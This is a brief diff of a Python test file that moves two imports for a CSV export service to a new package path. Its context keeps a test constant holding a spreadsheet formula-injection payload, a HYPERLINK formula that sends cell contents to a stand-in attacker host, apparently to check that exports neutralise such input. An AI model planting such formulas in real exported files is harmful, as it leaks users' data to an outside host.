@@ -8,8 +8,8 @@ import io
 
 import pytest
 
-from knowledge.measure.schemas import ProcessMeasures
-from knowledge.measure.service import as_csv
+from knowledge.answers.measure.schemas import ProcessMeasures
+from knowledge.answers.measure.service import as_csv
 
 HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
 
